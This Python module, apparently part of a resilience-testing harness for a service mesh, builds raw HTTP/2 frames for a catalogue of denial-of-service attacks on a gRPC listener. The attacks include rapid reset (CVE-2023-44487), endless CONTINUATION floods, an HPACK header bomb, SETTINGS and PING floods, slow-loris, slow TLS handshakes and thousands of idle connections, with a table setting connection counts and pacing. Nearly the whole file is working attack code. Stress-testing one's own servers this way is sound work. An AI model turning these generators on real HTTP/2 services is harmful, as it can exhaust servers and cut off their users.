"""Attacks on a listener of HTTP/2, as bytes: what is sent on one connection, again and again.

Each is a function from the path of a call to pieces of bytes without end, the connection's own opening first.
They hold no socket and wait for nothing; ``attacker`` sends them, at most so many at a time and for so long.
Frames are built by hand (RFC 9113 section 4.1), header blocks without Huffman codes (RFC 7541).
"""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
#: What a peer takes in one frame unless it says otherwise.
FRAME: Final = 16_384
#: Streams of one piece, so that a piece is some KiB.
BATCH: Final = 64
#: Streams that a connection is asked to hold open.
OPEN_STREAMS: Final = 900
CANCEL: Final = (8).to_bytes(4, "big")

Pieces = Iterator[bytes]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Give one frame."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def integer(value: int, prefix: int, pattern: int = 0) -> bytes:
    """Give an integer of HPACK behind a pattern in its first octet (RFC 7541 section 5.1)."""
    most = (1 << prefix) - 1
    if value < most:
        return bytes((pattern | value,))
    octets, rest = [pattern | most], value - most
    while rest >= 0x80:  # noqa: PLR2004
        octets.append(rest & 0x7F | 0x80)
        rest >>= 7
    return bytes((*octets, rest))


def literal(key: bytes, value: bytes, pattern: int = 0) -> bytes:
    """Give a header in full; pattern 0x40 has the peer remember it (RFC 7541 section 6.2)."""
    return bytes((pattern,)) + integer(len(key), 7) + key + integer(len(value), 7) + value


def call(path: str) -> bytes:
    """Give the header block of a gRPC call."""
    entries = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "callee",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    return b"".join(literal(key.encode(), value.encode()) for key, value in entries.items())


def opening() -> bytes:
    """Give what a connection begins with."""
    return PREFACE + frame(SETTINGS, 0, 0)


def streams() -> Iterator[int]:
    """Give the ids of a client's streams."""
    return iter(range(1, 1 << 31, 2))


def batches(ids: Iterator[int]) -> Iterator[list[int]]:
    """Give them some at a time."""
    while batch := list(itertools.islice(ids, BATCH)):
        yield batch


def rapid_reset(path: str) -> Pieces:
    """Open calls and reset each at once (CVE-2023-44487)."""
    block = call(path)
    yield opening()
    for ids in batches(streams()):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
            for stream in ids
        )


def half_open(path: str) -> Pieces:
    """Open as many calls as a connection may have and send nothing more, but answer as a peer does."""
    block = call(path)
    yield opening()
    for ids in batches(itertools.islice(streams(), OPEN_STREAMS)):
        yield b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in ids)


def calls(path: str) -> Pieces:
    """Make whole calls with nothing in them, as fast as they are taken."""
    block, nothing = call(path), bytes(5)
    yield opening()
    for ids in batches(streams()):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, nothing)
            for stream in ids
        )


def continuation(path: str) -> Pieces:
    """Begin a header block that never ends, of frames without content (CVE-2024-27316 and kin)."""
    yield opening() + frame(HEADERS, 0, 1, call(path))
    while True:
        yield frame(CONTINUATION, 0, 1) * 1000


def long_header(path: str) -> Pieces:
    """Do the same with content: headers without end."""
    block = literal(b"x-big", b"v" * 4000) * 4
    yield opening() + frame(HEADERS, 0, 1, call(path))
    while True:
        yield frame(CONTINUATION, 0, 1, block)


def header_bomb(path: str) -> Pieces:
    """Name one remembered header thousands of times: 16 KiB on the wire are 60 MiB when read."""
    remembered, again = literal(b"x-bomb", b"v" * 3900, 0x40), b"\xbe"
    first = call(path) + remembered
    yield opening() + frame(HEADERS, END_HEADERS, 1, first)
    block = call(path)
    for stream in itertools.islice(streams(), 1, None):
        yield frame(HEADERS, END_HEADERS, stream, block + again * (FRAME - len(block)))


def settings(_path: str) -> Pieces:
    """Change the settings without end; each change is to be acknowledged."""
    yield opening()
    while True:
        yield frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * 1000


def pings(_path: str) -> Pieces:
    """Ping without end; each is to be answered."""
    yield opening()
    while True:
        yield frame(PING, 0, 0, bytes(8)) * 1000


def nothing(_path: str) -> Pieces:
    """Say nothing."""
    return iter(())


def preface(_path: str) -> Pieces:
    """Be a connection that is not used."""
    yield opening()


def slow(path: str) -> Pieces:
    """Give a whole call, one octet at a time."""
    whole = opening() + frame(HEADERS, END_HEADERS, 1, call(path)) + frame(DATA, END_STREAM, 1, bytes(5))
    return (bytes((octet,)) for octet in whole)


def slow_hello(_path: str) -> Pieces:
    """Give the beginning of a TLS handshake, one octet at a time."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500)
    return (bytes((octet,)) for octet in hello)


@dataclass(frozen=True, slots=True)
class Attack:
    """What is sent, on how many connections at once, and how.

    ``member``: over TLS, as a member of the mesh, where the listener speaks TLS; else before any handshake.
    ``hold``: stay connected when all was sent. ``pause``: seconds between pieces. ``unread``: what comes back
    is left in the socket.
    """

    what: Callable[[str], Pieces]
    connections: int = 8
    member: bool = True
    hold: bool = False
    pause: float = 0.0
    unread: bool = False


ATTACKS: Final[Mapping[str, Attack]] = {
    "rapid reset": Attack(rapid_reset),
    "half-open streams": Attack(half_open, hold=True),
    "empty calls": Attack(calls),
    "endless header": Attack(long_header),
    "CONTINUATION": Attack(continuation),
    "header bomb": Attack(header_bomb),
    "SETTINGS": Attack(settings),
    "SETTINGS, unread": Attack(settings, unread=True),
    "PING": Attack(pings),
    "PING, unread": Attack(pings, unread=True),
    "slow-loris": Attack(slow, 300, hold=True, pause=0.5),
    "slow handshake": Attack(slow_hello, 300, member=False, hold=True, pause=0.5),
    "3,000 idle, mute": Attack(nothing, 3000, member=False, hold=True),
    "3,000 idle": Attack(preface, 3000, hold=True),
    "churn": Attack(nothing, 8, member=False),
    "churn, TLS": Attack(preface, 8),
}
